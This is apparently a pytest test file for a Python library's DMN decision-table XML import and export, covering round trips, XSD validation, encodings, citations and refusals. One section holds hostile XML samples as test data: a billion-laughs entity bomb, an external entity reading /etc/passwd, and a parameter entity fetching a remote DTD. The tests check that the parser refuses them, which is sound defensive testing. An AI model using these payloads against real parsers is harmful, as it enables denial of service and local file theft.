"""DMN XML: import, export, round trip, the official XSD, hostile XML and refusals."""

from __future__ import annotations

import os
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from _table_strategies import tables as random_tables
from hypothesis import given, settings
from hypothesis import strategies as st

from decision_trees.tables import DecisionTable, TableLoadError, from_dmn, load_table, to_dmn
from decision_trees.tables.dmn import NAMESPACES

DATA = Path(__file__).parent / "tables_data"
XSD_DIR = os.environ.get("DMN_XSD_DIR")
XSD = {"1.3": "dmn-1_3/DMN13.xsd", "1.4": "dmn-1_4/DMN14.xsd", "1.5": "dmn-1_5/DMN15.xsd"}


def dmn(body: str, version: str = "1.5") -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        f'<definitions xmlns="{NAMESPACES[version]}" id="d" name="d" namespace="urn:test">\n'
        f"{body}\n</definitions>\n"
    )


def table_xml(policy: str, inputs: str, outputs: str, rules: str, extra: str = "") -> str:
    return dmn(
        f"""  <decision id="decision" name="Decision">
    <decisionTable hitPolicy="{policy}" {extra}>
{inputs}
{outputs}
{rules}
    </decisionTable>
  </decision>"""
    )


NUMBER_INPUT = '<input><inputExpression typeRef="number"><text>Age</text></inputExpression></input>'


def rule(*cells: str, out: str) -> str:
    entries = "".join(f"<inputEntry><text>{c}</text></inputEntry>" for c in cells)
    return f"<rule>{entries}<outputEntry><text>{out}</text></outputEntry></rule>"


# -- import ----------------------------------------------------------------------------------


def test_a_dmn_table_imports_with_its_types_and_hit_policy() -> None:
    text = table_xml(
        "PRIORITY",
        NUMBER_INPUT + '<input><inputExpression typeRef="string"><text>Risk category</text></inputExpression>'
        '<inputValues><text>"low", "high"</text></inputValues></input>',
        '<output name="Decision" typeRef="string">'
        '<outputValues><text>"refuse", "accept"</text></outputValues>'
        '<defaultOutputEntry><text>"refuse"</text></defaultOutputEntry></output>',
        rule("&gt;= 18", '"low"', out='"accept"') + rule("-", "-", out='"refuse"'),
    )
    (table,) = from_dmn(text)
    assert table.name == "Decision"
    assert [(c.id, c.name, c.type) for c in table.inputs] == [
        ("Age", None, "number"),
        ("Risk_category", "Risk category", "enum"),
    ]
    assert table.outputs[0].values == ("refuse", "accept")
    assert table.evaluate({"Age": 30, "Risk_category": "low"}).value == "refuse"  # priority: refuse first
    assert table.evaluate({"Age": 30, "Risk_category": "low"}).rows == ("row 2",)


@pytest.mark.parametrize("version", ["1.3", "1.4", "1.5"])
def test_every_supported_dmn_version_imports(version: str) -> None:
    body = """<decision id="x" name="X"><decisionTable>
      <input><inputExpression typeRef="number"><text>n</text></inputExpression></input>
      <output name="o" typeRef="number"/>
      <rule><inputEntry><text>[1..10)</text></inputEntry><outputEntry><text>1</text></outputEntry></rule>
    </decisionTable></decision>"""
    (table,) = from_dmn(dmn(body, version))
    assert table.evaluate({"n": 9.5}).value == Decimal(1)
    assert table.evaluate({"n": 10}).value is None


def test_refusals_name_the_element_and_line() -> None:
    text = dmn(
        """  <decision id="lit" name="Literal">
    <literalExpression><text>1 + 1</text></literalExpression>
  </decision>
  <decision id="t" name="T">
    <decisionTable>
      <input><inputExpression typeRef="number"><text>Applicant.age</text></inputExpression></input>
      <output name="o" typeRef="number"/>
    </decisionTable>
  </decision>
  <decision id="u" name="U">
    <decisionTable>
      <input><inputExpression typeRef="number"><text>n</text></inputExpression></input>
      <output name="o" typeRef="number"/>
      <rule>
        <inputEntry><text>&gt; n * 2</text></inputEntry>
        <outputEntry><text>n + 1</text></outputEntry>
      </rule>
    </decisionTable>
  </decision>
  <businessKnowledgeModel id="bkm" name="B"/>"""
    )
    with pytest.raises(TableLoadError) as info:
        from_dmn(text)
    found = [(p.code, p.line) for p in info.value.problems]
    assert ("DT821", 3) in found  # the literal-expression decision
    assert ("DT821", 8) in found  # a path expression as input
    assert ("DT821", 17) in found  # a cell beyond the unary tests
    assert ("DT821", 18) in found  # an output that is not a literal
    assert ("DT821", 22) in found  # a business knowledge model
    first = next(p for p in info.value.problems if p.line == 3)
    assert "<decision 'lit'>" in first.message
    assert "literalExpression" in first.message


def test_a_document_that_is_not_dmn_is_refused() -> None:
    with pytest.raises(TableLoadError) as info:
        from_dmn('<definitions xmlns="http://www.omg.org/spec/DMN/20151101/dmn.xsd"/>')
    assert info.value.problems[0].code == "DT823"
    with pytest.raises(TableLoadError) as info:
        from_dmn("<definitions><unclosed></definitions>")
    assert info.value.problems[0].code == "DT820"


# -- hostile XML -----------------------------------------------------------------------------

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<definitions xmlns="https://www.omg.org/spec/DMN/20230324/MODEL/" name="&lol4;"/>
"""
EXTERNAL = """<?xml version="1.0"?>
<!DOCTYPE definitions [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<definitions xmlns="https://www.omg.org/spec/DMN/20230324/MODEL/" name="&secret;"/>
"""
PARAMETER = """<?xml version="1.0"?>
<!DOCTYPE definitions [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
<definitions xmlns="https://www.omg.org/spec/DMN/20230324/MODEL/"/>
"""


@pytest.mark.parametrize(
    "text", [BILLION_LAUGHS, EXTERNAL, PARAMETER], ids=["laughs", "external", "parameter"]
)
def test_hostile_xml_is_refused_before_anything_expands_or_is_fetched(text: str) -> None:
    with pytest.raises(TableLoadError) as info:
        from_dmn(text)
    (problem,) = info.value.problems
    assert problem.code == "DT820"
    assert "refused" in problem.message


def test_oversized_documents_are_refused(tmp_path: Path) -> None:
    path = tmp_path / "big.dmn"
    path.write_text("<a>" + " " * (3 * 1024 * 1024) + "</a>", encoding="utf-8")
    with pytest.raises(TableLoadError) as info:
        from_dmn(path)
    assert info.value.problems[0].code == "DT101"


# -- export and round trip -------------------------------------------------------------------


def test_export_keeps_labels_annotations_and_integer_columns() -> None:
    table = load_table(DATA / "approval.yaml")
    text = to_dmn(table)
    assert 'hitPolicy="UNIQUE"' in text
    assert 'dtx:label-nl="Leeftijd"' in text
    (back,) = from_dmn(text)
    assert back == table
    integer = load_table(
        {
            "id": "i",
            "inputs": [{"id": "k", "type": "integer"}],
            "outputs": [{"id": "o", "type": "boolean"}],
            "rows": [{"when": {"k": "(1..3)"}, "then": True}],
        }
    )
    assert from_dmn(to_dmn(integer)) == (integer,)


def test_several_tables_share_their_input_data() -> None:
    first = load_table(DATA / "approval.yaml")
    second = first.model_copy(update={"id": "approval2"})
    text = to_dmn([first, second])
    assert text.count("<inputData ") == 3
    assert [t.id for t in from_dmn(text)] == ["approval", "approval2"]


@st.composite
def tables(draw: st.DrawFn) -> DecisionTable:
    table: DecisionTable = draw(random_tables())
    policy = draw(
        st.sampled_from(["UNIQUE", "ANY", "PRIORITY", "FIRST", "RULE ORDER", "OUTPUT ORDER", "COLLECT"])
    )
    return table.model_copy(update={"hit_policy": policy})


INPUTS = st.fixed_dictionaries(
    {
        "k": st.one_of(st.none(), st.integers(-2, 11)),
        "x": st.sampled_from([Decimal(v) for v in ("0", "1", "1.7", "2.5", "4", "4.2")]),
        "c": st.sampled_from(["a", "b", "c"]),
        "s": st.sampled_from(["x", "y", "zz"]),
    }
)


@settings(max_examples=60, deadline=None)
@given(tables(), st.lists(INPUTS, min_size=1, max_size=10), st.sampled_from(["1.3", "1.4", "1.5"]))
def test_import_export_import_keeps_behaviour(
    table: DecisionTable, drawn: list[dict[str, Any]], version: str
) -> None:
    (once,) = from_dmn(to_dmn(table, version=version))
    (twice,) = from_dmn(to_dmn(once, version=version))
    assert twice == once
    for inputs in drawn:
        expected, got = table.evaluate(inputs), once.evaluate(inputs)
        assert got.value == expected.value
        assert got.rows == expected.rows
        assert (got.error is None) == (expected.error is None)


# -- the official schema ---------------------------------------------------------------------


@pytest.mark.skipif(not XSD_DIR, reason="DMN_XSD_DIR is not set (.ci/run fetches the XSDs from npm)")
@pytest.mark.parametrize("version", ["1.3", "1.4", "1.5"])
def test_exports_validate_against_the_official_xsd(version: str) -> None:
    xmlschema = pytest.importorskip("xmlschema")
    assert XSD_DIR is not None
    schema = xmlschema.XMLSchema(str(Path(XSD_DIR) / XSD[version]))
    approval = load_table(DATA / "approval.yaml")
    collect = load_table(
        {
            "id": "score",
            "hit_policy": "COLLECT",
            "aggregation": "SUM",
            "inputs": [{"id": "on", "type": "date"}, {"id": "k", "type": "integer"}],
            "outputs": [{"id": "points", "type": "number", "default": 0}],
            "rows": [
                {"when": {"on": '>= date("2024-01-01")', "k": "[1..5)"}, "then": 2, "annotation": "plain"},
                {"when": {"k": "not(3)"}, "then": 1.5},
            ],
        }
    )
    schema.validate(to_dmn([approval, collect], version=version))


def test_files_are_read_in_the_encoding_they_declare(tmp_path: Path) -> None:
    body = dmn(
        """<decision id="x" name="Café"><decisionTable>
      <input><inputExpression typeRef="string"><text>n</text></inputExpression></input>
      <output name="o" typeRef="string"/>
      <rule><inputEntry><text>"é"</text></inputEntry><outputEntry><text>"ü"</text></outputEntry></rule>
    </decisionTable></decision>"""
    ).replace('encoding="UTF-8"', 'encoding="ISO-8859-1"')
    path = tmp_path / "latin.dmn"
    path.write_bytes(body.encode("latin-1"))
    (table,) = from_dmn(path)
    assert table.name == "Café"
    assert table.evaluate({"n": "é"}).value == "ü"
    (again,) = from_dmn("\ufeff" + to_dmn(table))
    assert again == table


# -- sources ---------------------------------------------------------------------------------

SOURCED: dict[str, Any] = {
    "id": "sourced",
    "inputs": [{"id": "formal", "type": "boolean"}],
    "outputs": [{"id": "route", "type": "string"}],
    "sources": {
        "leidraad": {
            "title": "Nationale leidraad kennisveiligheid",
            "publisher": "Rijksoverheid",
            "url": "https://www.nationaalloketkennisveiligheid.nl/",
            "section": "3",
            "date": "2022-01-14",
        },
        "eu": {
            "title": "Tackling R&I foreign interference",
            "publisher": "European Commission",
            "date": "2022-01-18",
        },
    },
    "rows": [
        {
            "when": {"formal": "true"},
            "then": "check",
            "sources": [
                {"source": "leidraad", "provenance": "adapted", "section": "3.2"},
                {"source": "eu", "provenance": "synthesis"},
            ],
        },
        {"when": {"formal": "false"}, "then": "go"},
    ],
}


@pytest.mark.parametrize("version", ["1.3", "1.4", "1.5"])
def test_sources_travel_to_dmn_and_back(version: str) -> None:
    table = load_table(SOURCED)
    text = to_dmn(table, version=version)
    assert "<dtx:source " in text
    assert "<dtx:citation " in text
    (back,) = from_dmn(text)
    assert back == table
    assert back.sources["leidraad"].date.isoformat() == "2022-01-14"
    assert [c.provenance for c in back.rows[0].sources] == ["adapted", "synthesis"]
    assert back.rows[1].sources == ()


def test_a_citation_of_an_undeclared_source_in_dmn_is_refused_with_its_line() -> None:
    text = to_dmn(load_table(SOURCED)).replace('source="eu"', 'source="ue"')
    with pytest.raises(TableLoadError) as caught:
        from_dmn(text)
    (problem,) = [p for p in caught.value.problems if p.code == "DT808"]
    assert problem.line is not None
    assert 'source="ue"' in text.splitlines()[problem.line - 1]


@pytest.mark.skipif(not XSD_DIR, reason="DMN_XSD_DIR is not set (.ci/run fetches the XSDs from npm)")
@pytest.mark.parametrize("version", ["1.3", "1.4", "1.5"])
def test_exports_with_sources_validate_against_the_official_xsd(version: str) -> None:
    xmlschema = pytest.importorskip("xmlschema")
    assert XSD_DIR is not None
    schema = xmlschema.XMLSchema(str(Path(XSD_DIR) / XSD[version]))
    schema.validate(to_dmn(load_table(SOURCED), version=version))
